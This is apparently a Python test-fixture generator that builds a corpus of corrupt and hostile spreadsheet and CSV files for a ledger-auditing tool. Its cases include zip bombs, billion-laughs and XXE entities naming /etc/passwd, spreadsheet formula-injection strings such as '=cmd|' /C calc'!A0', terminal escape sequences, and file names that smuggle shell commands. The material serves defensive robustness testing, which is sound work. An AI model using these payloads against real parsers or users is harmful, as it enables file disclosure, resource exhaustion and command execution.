"""Generate the hostile-input corpus: the broken, hostile and odd files a township finance centre gets.

Ledgers come by USB stick, email and chat apps: some corrupt, some password-protected, some web pages
saved as .xls, some holding text that turns into a formula or a terminal escape when shown. Every
file here is built by this script (nothing binary is committed), deterministically: seeded random
bytes, fixed zip timestamps, fixed encryption salts. Each `Case` says what the file is and what
finaudit must say about it; tests/test_hostile.py runs every case through the command line.

    python tests/hostile/make_corpus.py DEST      # writes DEST/good, DEST/data, DEST/packs, DEST/fs

`make_corpus(dest)` is what the tests call (a session fixture). `make_special_files(folder)` adds
what only a live file system can hold (FIFO, symlink loops, a sparse giant, unreadable entries).
"""

from __future__ import annotations

import datetime as dt
import io
import os
import random
import re
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

D = dt.datetime
MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
ODS_MIME = "application/vnd.oasis.opendocument.spreadsheet"
PASSWORD = "村会计2023"
ZIP_TIME = (2024, 1, 1, 0, 0, 0)
SHEET1 = "xl/worksheets/sheet1.xml"
# Marker a hostile file or pack would create if anything it says were ever executed.
PWNED = "PWNED-finaudit"

TITLE = "某某镇东村2023年现金日记账"
HEADER = ["日期", "凭证号", "摘要", "借方", "贷方", "余额"]
ROWS = [
    [D(2023, 3, 1), "", "上年结转", "", "", 1000],
    [D(2023, 3, 6), "记-1", "收张建国承包费", 500, "", 1500],
    [D(2023, 3, 7), "记-2", "购办公用品", "", 200.5, 1299.5],
]
LEDGER = [[TITLE], HEADER, *ROWS]


@dataclass(frozen=True)
class Case:
    """One corpus file and what finaudit must report for it.

    Attributes:
        name: file name under data/ (bytes for a name that is not UTF-8).
        what: what the file is, for the test id and the closing note.
        codes: IN codes, one of which must be reported for the file (empty: none is required).
        words: text the message of that finding must contain.
        ledger: the file must still be read as a ledger (a sheet with a recognised kind).
        clean: no IN finding at all may be reported for the file.
    """

    name: str | bytes
    what: str
    codes: tuple[str, ...] = ()
    words: str = ""
    ledger: bool = False
    clean: bool = False
    build: Callable[[], bytes] | None = field(default=None, compare=False, repr=False)

    @property
    def id(self) -> str:
        name = self.name if isinstance(self.name, str) else self.name.decode("utf-8", "backslashreplace")
        return re.sub(r"[^\w.\-一-鿿]+", "_", name)


@dataclass(frozen=True)
class PackCase:
    """A rule pack that must be refused (exit 2) with a message naming it; nothing in it may run."""

    name: str
    what: str
    text: str | bytes
    words: str = ""


# ---- building blocks ----------------------------------------------------------------------------


def _rng(tag: str) -> random.Random:
    return random.Random(f"finaudit-hostile-{tag}")


def _zip(members: list[tuple[str, bytes | str]], *, method=zipfile.ZIP_DEFLATED,
         stored: tuple[str, ...] = ("mimetype",)) -> bytes:
    """A zip with fixed timestamps, so the corpus is the same bytes on every run."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for name, data in members:
            info = zipfile.ZipInfo(name, ZIP_TIME)
            info.compress_type = zipfile.ZIP_STORED if name in stored else method
            info.external_attr = 0o644 << 16
            z.writestr(info, data)
    return out.getvalue()


def _members(data: bytes) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return [(i.filename, z.read(i.filename)) for i in z.infolist()]


def _replace(data: bytes, changes: dict[str, bytes | str | None], add: list[tuple[str, bytes | str]] = ()) -> bytes:
    """Re-zip with some members replaced (None: removed) and some added."""
    members = [(n, changes.get(n, d)) for n, d in _members(data) if changes.get(n, d) is not None]
    return _zip(members + list(add))


def workbook(sheets: dict[str, list[list]], *, merges: dict[str, list[str]] | None = None,
             hidden: dict[str, str] | None = None, formulas: bool = False) -> bytes:
    """An xlsx as openpyxl writes it ("" and None are blank cells), with fixed timestamps."""
    import openpyxl

    wb = openpyxl.Workbook()
    wb.remove(wb.active)
    wb.properties.creator = "finaudit corpus"
    for name, rows in sheets.items():
        ws = wb.create_sheet(name)
        for row in rows:
            ws.append([None if v == "" else v for v in row])
        for ref in (merges or {}).get(name, []):
            ws.merge_cells(ref)
        if name in (hidden or {}):
            ws.sheet_state = hidden[name]
        if not formulas:  # text that starts with "=" stays text
            for row in ws.iter_rows():
                for cell in row:
                    if isinstance(cell.value, str) and cell.value.startswith("="):
                        cell.data_type = "s"
    buffer = io.BytesIO()
    wb.save(buffer)
    stamp = re.compile(rb"(<dcterms:(?:created|modified)[^>]*>)[^<]*")
    return _zip([(n, stamp.sub(rb"\g<1>2024-01-01T00:00:00Z", d) if n == "docProps/core.xml" else d)
                 for n, d in _members(buffer.getvalue())])


def ledger_xlsx() -> bytes:
    return workbook({"现金日记账": LEDGER})


def with_sheet_xml(body: str | bytes, head: str = "", base: bytes | None = None) -> bytes:
    """The clean workbook with sheet1.xml replaced by hand-written rows."""
    xml = body if isinstance(body, bytes) else (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="{MAIN_NS}">{head}'
        f"<sheetData>{body}</sheetData></worksheet>").encode()
    return _replace(base or ledger_xlsx(), {SHEET1: xml})


def _ledger_rows_xml(extra: str = "") -> str:
    """The clean ledger as hand-written sheet XML (inline strings), plus `extra` rows."""
    def cell(ref: str, value) -> str:
        if isinstance(value, (int, float)):
            return f'<c r="{ref}"><v>{value}</v></c>'
        return f'<c r="{ref}" t="inlineStr"><is><t>{value}</t></is></c>'
    rows = [[TITLE], HEADER, ["2023-03-01", "", "上年结转", "", "", 1000],
            ["2023-03-06", "记-1", "收张建国承包费", 500, "", 1500]]
    out = []
    for r, row in enumerate(rows, 1):
        cells = "".join(cell(f"{'ABCDEF'[c]}{r}", v) for c, v in enumerate(row) if v != "")
        out.append(f'<row r="{r}">{cells}</row>')
    return "".join(out) + extra


def ods(tables: str, *, content_head: str = "") -> bytes:
    content = (f'<?xml version="1.0" encoding="UTF-8"?>{content_head}<office:document-content '
               'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
               'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
               'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
               f"<office:body><office:spreadsheet>{tables}</office:spreadsheet></office:body>"
               "</office:document-content>")
    manifest = ('<?xml version="1.0" encoding="UTF-8"?><manifest:manifest '
                'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
                f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{ODS_MIME}"/>'
                '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
                "</manifest:manifest>")
    return _zip([("mimetype", ODS_MIME), ("META-INF/manifest.xml", manifest), ("content.xml", content)])


def _ods_cell(value) -> str:
    if isinstance(value, (int, float)):
        return f'<table:table-cell office:value-type="float" office:value="{value}"><text:p>{value}</text:p></table:table-cell>'
    return f'<table:table-cell office:value-type="string"><text:p>{value}</text:p></table:table-cell>'


def ledger_ods() -> bytes:
    rows = "".join("<table:table-row>" + "".join(_ods_cell(v) for v in row) + "</table:table-row>"
                   for row in [[TITLE], HEADER, ["2023-03-06", "记-1", "收承包费", 500, 0, 1500]])
    return ods(f'<table:table table:name="现金日记账">{rows}</table:table>')


def ledger_xls() -> bytes:
    import xlwt

    wb = xlwt.Workbook(encoding="utf-8")
    ws = wb.add_sheet("现金日记账")
    for r, row in enumerate([[TITLE], HEADER, ["2023-03-06", "记-1", "收承包费", 500, "", 1500]]):
        for c, value in enumerate(row):
            if value != "":
                ws.write(r, c, value)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def ledger_csv(rows: list[list] | None = None, title: str = TITLE) -> str:
    lines = [title, ",".join(HEADER)]
    for row in rows or [["2023-03-01", "", "上年结转", "", "", "1000"],
                        ["2023-03-06", "记-1", "收张建国承包费", "500", "", "1500"],
                        ["2023-03-07", "记-2", "购办公用品", "", "200.50", "1299.50"]]:
        lines.append(",".join(_csv_field(str(v)) for v in row))
    return "\n".join(lines) + "\n"


def _csv_field(text: str) -> str:
    return '"' + text.replace('"', '""') + '"' if any(ch in text for ch in ',"\n\r') else text


def encrypted_xlsx(password: str = PASSWORD) -> bytes:
    """The clean ledger, encrypted the way Excel does (ECMA-376 agile), with fixed salts."""
    from msoffcrypto.format.ooxml import OOXMLFile
    from msoffcrypto.method import ecma376_agile

    from msoffcrypto.method.container import ecma376_encrypted

    class FixedClock(dt.datetime):
        @classmethod
        def now(cls, tz=None):
            return dt.datetime(2024, 1, 1)

    rng = _rng("encryption")
    saved = ecma376_agile._random_buffer, ecma376_encrypted.datetime
    ecma376_agile._random_buffer, ecma376_encrypted.datetime = rng.randbytes, FixedClock
    try:
        out = io.BytesIO()
        OOXMLFile(io.BytesIO(ledger_xlsx())).encrypt(password, out)
    finally:
        ecma376_agile._random_buffer, ecma376_encrypted.datetime = saved
    return out.getvalue()


def _encrypted_xls() -> bytes:
    """A .xls whose globals say FILEPASS (RC4 encryption): what a password-protected .xls looks like
    to a reader. (msoffcrypto cannot write encrypted .xls, so the record is planted.)"""
    data = bytearray(ledger_xls())
    at = data.find(b"\xe1\x00\x02\x00")  # INTERFACEHDR right after BOF becomes FILEPASS
    data[at:at + 2] = b"\x2f\x00"
    return bytes(data)


def lie_about_size(data: bytes, member: str, size: int) -> bytes:
    """Patch a member's declared uncompressed size in its local header and central directory."""
    data = bytearray(data)
    info = zipfile.ZipFile(io.BytesIO(bytes(data))).getinfo(member)
    struct.pack_into("<I", data, info.header_offset + 22, size)
    pos = struct.unpack_from("<I", data, data.rfind(b"PK\x05\x06") + 16)[0]
    while data[pos:pos + 4] == b"PK\x01\x02":
        n, m, k = struct.unpack_from("<HHH", data, pos + 28)
        if data[pos + 46:pos + 46 + n] == member.encode():
            struct.pack_into("<I", data, pos + 24, size)
        pos += 46 + n + m + k
    return bytes(data)


def _deflated_member(name: str, chunks) -> tuple[bytes, bytes]:
    """A one-member zip whose member is deflated from `chunks` (an iterable of bytes) as a stream,
    so that a huge member never sits in memory. Returns (local header + data, central entry)."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    body, crc, size = [], 0, 0
    for chunk in chunks:
        body.append(compressor.compress(chunk))
        crc, size = zlib.crc32(chunk, crc), size + len(chunk)
    body.append(compressor.flush())
    payload = b"".join(body)
    raw = name.encode()
    local = struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 0x21, crc, len(payload), size & 0xFFFFFFFF,
                        len(raw), 0) + raw
    central = struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 8, 0, 0x21, crc, len(payload),
                          size & 0xFFFFFFFF, len(raw), 0, 0, 0, 0, 0o644 << 16, 0) + raw
    return local + payload, central


def _zip_with_stream(base: bytes, name: str, chunks, declared: int | None = None) -> bytes:
    """`base` (a zip) with member `name` replaced by a streamed one (see `_deflated_member`)."""
    members = [(n, d) for n, d in _members(base) if n != name]
    head = _zip(members)
    end = head.rfind(b"PK\x05\x06")
    cd_size, cd_offset = struct.unpack_from("<II", head, end + 12)
    count = struct.unpack_from("<H", head, end + 10)[0]
    local, central = _deflated_member(name, chunks)
    if declared is not None:  # lie about the uncompressed size
        local = local[:22] + struct.pack("<I", declared) + local[26:]
        central = central[:24] + struct.pack("<I", declared) + central[28:]
    central = central[:42] + struct.pack("<I", cd_offset) + central[46:]
    files = head[:cd_offset] + local
    directory = head[cd_offset:cd_offset + cd_size] + central
    eocd = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, count + 1, count + 1, len(directory), len(files), 0)
    return files + directory + eocd


def _part(data: bytes, name: str) -> str:
    """A member's XML without its declaration, to put a DTD in front of it."""
    return re.sub(r"^<\?xml[^>]*\?>\s*", "", dict(_members(data))[name].decode())


SST = f'<sst xmlns="{MAIN_NS}" count="1" uniqueCount="1"><si><t>x</t></si></sst>'


def _laughs(root: str) -> str:
    """The billion-laughs DTD: ten levels of ten references, 10^9 "lol"s from under 1 KB."""
    entities = ['<!ENTITY lol "lol">'] + [
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10)]
    return f'<?xml version="1.0"?>\n<!DOCTYPE {root} [{"".join(entities)}]>\n'


def _xxe(root: str, system: str = "file:///etc/passwd") -> str:
    return f'<?xml version="1.0"?>\n<!DOCTYPE {root} [<!ENTITY xxe SYSTEM "{system}">]>\n'


def _many_sheets(count: int) -> bytes:
    sheets = {"现金日记账": LEDGER}
    sheets.update({f"表{i}": [[f"第{i}张"]] for i in range(1, count)})
    return workbook(sheets)


def _merges_xlsx(count: int) -> bytes:
    """The ledger sheet with `count` identical 20×20 merges just under it, in the rows a header
    could be in (expanding each merge cell by cell would take minutes)."""
    base = ledger_xlsx()
    sheet = dict(_members(base))[SHEET1].decode()
    merges = '<mergeCell ref="A7:T26"/>' * count
    sheet = sheet.replace("</sheetData>", f'</sheetData><mergeCells count="{count}">{merges}</mergeCells>', 1)
    return _replace(base, {SHEET1: sheet})


def _nested_xlsx(depth: int) -> bytes:
    junk = "<x>" * depth + "</x>" * depth
    return with_sheet_xml(_ledger_rows_xml(f'<row r="10">{junk}</row>'))


def _formula_ledger() -> bytes:
    rows = [[TITLE], HEADER, [D(2023, 3, 1), "", "上年结转", "", "", 1000]]
    for i in range(4, 10):
        rows.append([D(2023, 3, i), f"记-{i}", "收承包费", 100, "", f"=F{i - 1}+D{i}-E{i}"])
    return workbook({"现金日记账": rows}, formulas=True)


def _merged_header() -> bytes:
    rows = [[TITLE, "", "", "", "", "", ""],
            ["2023年", "", "凭证", "摘要", "金额", "", "余额"],
            ["月", "日", "字号", "", "借方", "贷方", ""],
            [3, 1, "", "上年结转", "", "", 1000],
            [3, 6, "记-1", "收张建国承包费", 500, "", 1500]]
    return workbook({"现金日记账": rows}, merges={"现金日记账": ["A1:G1", "A2:B2", "D2:D3", "E2:F2", "G2:G3"]})


def _hostile_text_ledger() -> bytes:
    """摘要 and sheet name with terminal escapes, bidi overrides and formula text (calamine reads
    ESC/BEL from shared strings, and unescapes Excel's _x001B_ form)."""
    rows = [[TITLE], HEADER, [D(2023, 3, 1), "", "上年结转", "", "", 1000],
            [D(2023, 3, 6), "记-1", "购烟酒ESC_CLEAR", "", 300, 700],
            [D(2023, 3, 7), "记-2", "=cmd|' /C calc'!A0", "", 10, 690],
            [D(2023, 3, 8), "记-3", "@SUM(1+1)*cmd|' /C calc'!A0", "", 10, 680],
            [D(2023, 3, 9), "记-4", "收款\u202eRLO反转", 20, "", 700]]
    data = workbook({"现金日记账": rows})
    sheet = dict(_members(data))[SHEET1].replace(b"ESC_CLEAR", b"\x1b[2J\x1b[31m\x1b]0;pwned\x07_x001B_[5m")
    return _replace(data, {SHEET1: sheet})


def _html(encoding: str = "utf-8", bom: bool = False) -> bytes:
    cells = "".join(f"<td>{h}</td>" for h in HEADER)
    text = (f'<html><head><meta http-equiv="Content-Type" content="text/html; charset={encoding}">'
            f"</head><body><table><tr><td>{TITLE}</td></tr><tr>{cells}</tr>"
            "<tr><td>2023-03-06</td><td>记-1</td><td>收承包费</td><td>500</td><td></td><td>1500</td></tr>"
            "</table></body></html>")
    data = text.encode("utf-16-le" if encoding == "utf-16" else encoding)
    return (b"\xff\xfe" if bom else b"") + data


SPREADSHEETML_2003 = ('<?xml version="1.0" encoding="UTF-8"?>\n<?mso-application progid="Excel.Sheet"?>\n'
                      '<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" '
                      'xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="现金日记账">'
                      f'<Table><Row><Cell><Data ss:Type="String">{TITLE}</Data></Cell></Row></Table>'
                      "</Worksheet></Workbook>")
MHT = ("MIME-Version: 1.0\r\nX-Document-Type: Workbook\r\nContent-Type: multipart/related; "
       'boundary="----=_NextPart_01"\r\n\r\n------=_NextPart_01\r\nContent-Type: text/html; charset="utf-8"\r\n'
       f"\r\n<html><body><table><tr><td>{TITLE}</td></tr></table></body></html>\r\n")


def _big_csv_line(size: int) -> bytes:
    return b"2023-03-06,\xe8\xae\xb0-1," + b"a" * size + b",500,,1500\n"


def _many_rows_csv(rows: int) -> bytes:
    return ledger_csv().encode() + b"2023-03-08,,x,1,,1\n" * rows


def _bytes_name(text: str) -> bytes:
    return text.encode("gbk")


# ---- the cases ----------------------------------------------------------------------------------


def _cases() -> list[Case]:
    rnd = lambda tag, n=4096: _rng(tag).randbytes(n)  # noqa: E731
    far = '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    ledger = ledger_xlsx
    return [
        # empty and random bytes with ledger extensions
        Case("empty.xlsx", "0-byte xlsx", ("IN01",), "为空", build=lambda: b""),
        Case("empty.xls", "0-byte xls", ("IN01",), "为空", build=lambda: b""),
        Case("empty.ods", "0-byte ods", ("IN01",), "为空", build=lambda: b""),
        Case("empty.csv", "0-byte csv", ("IN01",), "空", build=lambda: b""),
        Case("bom-only.csv", "a UTF-8 BOM and nothing else", ("IN01",), "空", build=lambda: b"\xef\xbb\xbf"),
        Case("random.xlsx", "4 KB of random bytes as .xlsx", ("IN01",), build=lambda: rnd("xlsx")),
        Case("random.xls", "4 KB of random bytes as .xls", ("IN01",), build=lambda: rnd("xls")),
        Case("random.ods", "4 KB of random bytes as .ods", ("IN01",), build=lambda: rnd("ods")),
        Case("random.csv", "4 KB of random bytes as .csv", ("IN01", "IN03", "IN04"), build=lambda: rnd("csv")),
        Case("zeros.xlsx", "4 KB of NUL bytes", ("IN01",), build=lambda: bytes(4096)),
        Case("ole-random.xls", "OLE2 signature then random bytes", ("IN01",),
             build=lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + rnd("ole")),
        # damaged zips
        Case("truncated.xlsx", "the first half of a workbook", ("IN01",), build=lambda: ledger()[:len(ledger()) // 2]),
        Case("no-directory.xlsx", "a workbook cut before its zip directory", ("IN01",),
             build=lambda: ledger()[:ledger().rfind(b"PK\x01\x02")]),
        Case("junk-sheet.xlsx", "the sheet part is random bytes", ("IN01",),
             build=lambda: _replace(ledger(), {SHEET1: rnd("sheet", 20000)})),
        Case("not-xml-sheet.xlsx", "the sheet part is text, not XML", ("IN01", "IN03"),
             build=lambda: _replace(ledger(), {SHEET1: "这不是 XML <<<< &&& >>>> <row r=".encode() * 50})),
        Case("crc.xlsx", "bytes flipped inside the compressed sheet", ("IN01",), build=lambda: _flip_member(ledger())),
        Case("missing-part.xlsx", "the workbook lists a sheet whose part is missing", ("IN01", "IN03"),
             build=lambda: _replace(ledger(), {SHEET1: None})),
        Case("plain-zip.xlsx", "an ordinary zip of text files", ("IN01",), "压缩包",
             build=lambda: _zip([("readme.txt", "hello"), ("data/a.txt", "x")])),
        Case("docx.xlsx", "a Word document renamed .xlsx", ("IN01",), "Word",
             build=lambda: _zip([("[Content_Types].xml", "<Types/>"), ("word/document.xml", "<w:document/>")])),
        Case("binary.xlsb", "an Excel binary workbook (.xlsb)", ("IN01",), "xlsb",
             build=lambda: _zip([("xl/workbook.bin", b"\x83\x01\x00")])),
        Case("prefixed.xlsx", "random bytes in front of a workbook", ("IN01",), build=lambda: rnd("pre", 512) + ledger()),
        # zip bombs, entity expansion, external entities
        Case("bomb-ratio.xlsx", "64 MB of zeros packed into 64 KB", ("IN06",), "压缩",
             build=lambda: _zip_with_stream(ledger(), "xl/media/image1.png", (bytes(1 << 20) for _ in range(64)))),
        Case("bomb-declared.xlsx", "a sheet that declares 4 GB uncompressed", ("IN06",), "上限",
             build=lambda: lie_about_size(ledger(), SHEET1, 0xFFFFFFF0)),
        Case("bomb-lying.xlsx", "a sheet that declares 1 KB and inflates to 300 MB", ("IN06",), "解压",
             build=lambda: _zip_with_stream(ledger(), SHEET1, (b"<x/>" * (1 << 18) for _ in range(300)), declared=1024)),
        Case("bomb-members.xlsx", "10,001 parts in one zip", ("IN06",), "部件",
             build=lambda: _zip([(n, d) for n, d in _members(ledger())] +
                                [(f"xl/media/p{i}.bin", b"") for i in range(10_001)])),
        Case("bomb-sst.xlsx", "a shared-string table that declares 4 billion strings", ("IN06",), "字符串",
             build=lambda: _replace(ledger(), {}, [("xl/sharedStrings.xml", SST.replace('uniqueCount="1"',
                                                                                        'uniqueCount="4000000000"'))])),
        Case("laughs-sheet.xlsx", "billion laughs in the sheet", ("IN01",), "DTD",
             build=lambda: with_sheet_xml((_laughs("worksheet") + f'<worksheet xmlns="{MAIN_NS}"><sheetData>'
                                           '<row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row>'
                                           "</sheetData></worksheet>").encode())),
        Case("laughs-strings.xlsx", "billion laughs in the shared strings", ("IN01",), "DTD",
             build=lambda: _replace(ledger(), {}, [("xl/sharedStrings.xml", _laughs("sst") + SST.replace(">x<", ">&lol9;<"))])),
        Case("laughs-workbook.xlsx", "billion laughs in workbook.xml", ("IN01",), "DTD",
             build=lambda: _replace(ledger(), {"xl/workbook.xml": _laughs("workbook") + _part(ledger(), "xl/workbook.xml")})),
        Case("laughs.ods", "billion laughs in an ods", ("IN01",), "DTD",
             build=lambda: _replace(ledger_ods(), {"content.xml": _laughs("office:document-content") +
                                                   _part(ledger_ods(), "content.xml")})),
        Case("xxe-file.xlsx", "an external entity naming /etc/passwd", ("IN01",), "DTD",
             build=lambda: with_sheet_xml((_xxe("worksheet") + f'<worksheet xmlns="{MAIN_NS}"><sheetData>'
                                           '<row r="1"><c r="A1" t="inlineStr"><is><t>&xxe;</t></is></c></row>'
                                           "</sheetData></worksheet>").encode())),
        Case("xxe-http.xlsx", "an external entity naming a URL, in [Content_Types].xml", ("IN01",), "DTD",
             build=lambda: _replace(ledger(), {"[Content_Types].xml": _xxe("Types", "http://127.0.0.1:9/x") +
                                               _part(ledger(), "[Content_Types].xml")})),
        Case("xxe-parameter.xlsx", "a parameter entity in docProps/core.xml", ("IN01",), "DTD",
             build=lambda: _replace(ledger(), {"docProps/core.xml": '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p '
                                               'SYSTEM "file:///etc/passwd"> %p;]><r/>'})),
        Case("xxe-utf16.xlsx", "a UTF-16 sheet part (cannot be scanned byte-wise)", ("IN01",), "UTF-8",
             build=lambda: _replace(ledger(), {SHEET1: (_xxe("worksheet") + "<worksheet/>").encode("utf-16")})),
        Case("xxe.ods", "an external entity in an ods", ("IN01",), "DTD",
             build=lambda: _replace(ledger_ods(), {"content.xml": _xxe("office:document-content") +
                                                   _part(ledger_ods(), "content.xml")})),
        Case("deep-nesting.xlsx", "120,000 nested elements in a sheet", (), ledger=True,
             build=lambda: _nested_xlsx(120_000)),
        # encryption
        Case("encrypted.xlsx", f"the ledger with an open password ({PASSWORD})", ("IN02",), "密码",
             build=encrypted_xlsx),
        Case("encrypted.xls", "a .xls with a FILEPASS record", ("IN02",), "密码", build=_encrypted_xls),
        # web pages and XML under .xls
        Case("html.xls", "an HTML table saved as .xls", ("IN01",), "网页", build=_html),
        Case("html-gbk.xls", "a GBK HTML page saved as .xls", ("IN01",), "网页", build=lambda: _html("gbk")),
        Case("html-utf16.xls", "a UTF-16 HTML page saved as .xls", ("IN01",), "网页",
             build=lambda: _html("utf-16", bom=True)),
        Case("spreadsheetml.xls", "an XML Spreadsheet 2003 saved as .xls", ("IN01",), "网页",
             build=lambda: SPREADSHEETML_2003.encode()),
        Case("mht.xls", "a single-file web page (.mht) saved as .xls", ("IN01",), "网页", build=lambda: MHT.encode()),
        Case("html.xlsx", "an HTML page saved as .xlsx", ("IN01",), "网页", build=_html),
        # CSV encodings and bytes
        Case("gbk.csv", "a GBK ledger", ledger=True, clean=True, build=lambda: ledger_csv().encode("gbk")),
        Case("utf16.csv", "a UTF-16 ledger with BOM", ledger=True, clean=True, build=lambda: ledger_csv().encode("utf-16")),
        Case("utf16-nobom.csv", "a UTF-16LE ledger without BOM", ledger=True, clean=True,
             build=lambda: ledger_csv().encode("utf-16-le")),
        Case("utf8-bom.csv", "a UTF-8 ledger with BOM", ledger=True, clean=True,
             build=lambda: ledger_csv().encode("utf-8-sig")),
        Case("mixed-encoding.csv", "UTF-8 lines followed by GBK lines", ("IN04",), "编码",
             build=lambda: ledger_csv().encode() + "2023-03-08,记-3,购买种子,,100,1199.50\n".encode("gbk")),
        Case("invalid-encoding.csv", "bytes that are no text encoding", ("IN04", "IN01", "IN03"),
             build=lambda: bytes(b | 0x80 for b in rnd("enc", 3000))),
        Case("nul.csv", "a ledger with NUL bytes", ("IN01",), "NUL", ledger=True,
             build=lambda: ledger_csv().encode().replace(b"\n", b"\x00\n")),
        Case("escapes.csv", "摘要 with ANSI/OSC escapes, BEL, C1 CSI, bidi override and a line break",
             ledger=True, clean=True, build=lambda: ledger_csv([
                 ["2023-03-01", "", "上年结转", "", "", "1000"],
                 ["2023-03-06", "记-1", "购烟酒\x1b[2J\x1b[31m\x1b]0;pwned\x07\x9b5m", "", "300", "700"],
                 ["2023-03-07", "记-2", "收款\u202eRLO\nfake line 无问题", "20", "", "720"]],
                 title="某某镇东村\x1b[1m2023年现金日记账").encode()),
        Case("formula-text.csv", "摘要 that spreadsheets would run as formulas", ledger=True, clean=True,
             build=lambda: ledger_csv([
                 ["2023-03-01", "", "上年结转", "", "", "1000"],
                 ["2023-03-06", "记-1", "=cmd|' /C calc'!A0", "", "10", "990"],
                 ["2023-03-07", "记-2", "@SUM(1+1)*cmd|' /C calc'!A0", "", "10", "980"],
                 ["2023-03-08", "记-3", "+1+cmd|' /C calc'!A0", "", "10", "970"],
                 ["2023-03-09", "记-4", '=HYPERLINK("http://example.invalid/?x="&A1,"点击")', "", "10", "960"]]).encode()),
        Case("long-line.csv", "one 10 MB line", ("IN06",), "单元格", build=lambda: _big_csv_line(10_000_000)),
        Case("wide.csv", "a row of 1,001 columns", ("IN06",), "列",
             build=lambda: ledger_csv().encode() + b",".join([b"1"] * 1001) + b"\n"),
        Case("many-rows.csv", "600,000 rows", ("IN06",), "行", build=lambda: _many_rows_csv(600_000)),
        Case("big-cell.csv", "a quoted cell of 40,000 characters with line breaks", ("IN06",), "单元格",
             build=lambda: ledger_csv().encode() + b'2023-03-08,,"' + ("长\n" * 20_000).encode() + b'",1,,1\n'),
        Case("open-quote.csv", "a quote that never closes", ("IN06",), "引号", build=lambda:
             ledger_csv().encode() + b'2023-03-08,,"never closed,1,,1\n' + b"2023-03-09,,x,1,,1\n" * 4000),
        # enormous cells, rows, columns, sheets
        Case("big-cell.xlsx", "a cell of 40,000 characters", ("IN06",), "字符",
             build=lambda: with_sheet_xml(_ledger_rows_xml(f'<row r="9"><c r="C9" t="inlineStr"><is><t>{"长" * 40_000}'
                                                           "</t></is></c></row>"))),
        Case("far-cell.xlsx", "a value at XFD1048576 (python-calamine aborts on it)", ("IN06",), "XFD1048576",
             build=lambda: with_sheet_xml(_ledger_rows_xml(far.split("</row>", 1)[1]))),
        Case("far-row.xlsx", "a value in row 700,000", ("IN06",), "A700000",
             build=lambda: with_sheet_xml(_ledger_rows_xml('<row r="700000"><c r="A700000"><v>1</v></c></row>'))),
        Case("far-column.xlsx", "a value in column 1,500", ("IN06",), "BER9",
             build=lambda: with_sheet_xml(_ledger_rows_xml('<row r="9"><c r="BER9"><v>1</v></c></row>'))),
        Case("sheets-201.xlsx", "201 sheets", ("IN06",), "工作表", build=lambda: _many_sheets(201)),
        Case("sheets-200.xlsx", "200 sheets (at the limit: read)", ledger=True, build=lambda: _many_sheets(200)),
        Case("merges.xlsx", "30,000 overlapping 20×20 merges in the header rows", ledger=True,
             build=lambda: _merges_xlsx(30_000)),
        Case("panic.xls", "a .xls that makes python-calamine panic (PanicException)", ("IN01",), "无法作为表格读取",
             build=panic_xls),
        Case("dimensions.xls", "a .xls whose DIMENSIONS record claims 4 billion rows", ("IN06",), "区域",
             build=lambda: _xls_dimensions()),
        Case("repeat.ods", "an ods value repeated over a million rows", ("IN06",), build=lambda: ods(
            '<table:table table:name="t"><table:table-row table:number-rows-repeated="1048576">'
            f'{_ods_cell(1)}</table:table-row></table:table>')),
        # formulas, headers, sheets
        Case("formulas.xlsx", "余额 as formulas with no cached values", ("IN05",), "公式", ledger=True,
             build=_formula_ledger),
        Case("duplicate-header.xlsx", "two 余额 columns", ("IN08",), "余额", ledger=True,
             build=lambda: workbook({"现金日记账": [[TITLE], HEADER + ["余额"], *[r + [r[-1]] for r in ROWS]]})),
        Case("merged-header.xlsx", "a two-row header with merged cells", ledger=True, clean=True, build=_merged_header),
        Case("hidden-sheet.xlsx", "the ledger in a hidden sheet, another very hidden", ledger=True, clean=True,
             build=lambda: workbook({"说明": [["见隐藏表"]], "现金日记账": LEDGER, "秘密": [["x"]]},
                                    hidden={"现金日记账": "hidden", "秘密": "veryHidden"})),
        Case("no-ledger.xlsx", "a workbook with no ledger sheet", ("IN03",), "没有可识别",
             build=lambda: workbook({"说明": [["本文件没有账簿"]]})),
        Case("hostile-text.xlsx", "escapes, bidi and formula text in 摘要", ledger=True, clean=True,
             build=_hostile_text_ledger),
        # file names
        Case("东村 2023 账簿.xlsx", "spaces and Chinese in the name", ledger=True, clean=True, build=ledger),
        Case(f"a;b&c|d $(touch {PWNED}) `touch {PWNED}` 'q' \"dq\" *?<>#!.xlsx", "shell metacharacters",
             ledger=True, clean=True, build=ledger),
        Case("line\nbreak\x1b[31m\x07.xlsx", "a newline, ESC and BEL in the name", ledger=True, clean=True, build=ledger),
        Case(_bytes_name("东村账簿") + b"-gbk.xlsx", "a GBK (not UTF-8) name, as a Windows zip unpacks",
             ledger=True, clean=True, build=ledger),
        Case("-rf --help.xlsx", "a name that looks like options", ledger=True, clean=True, build=ledger),
        Case("fake\n  高 IN01 伪造的一行.xlsx", "a broken file whose name would print a fake report line",
             ("IN01",), build=lambda: rnd("fake")),
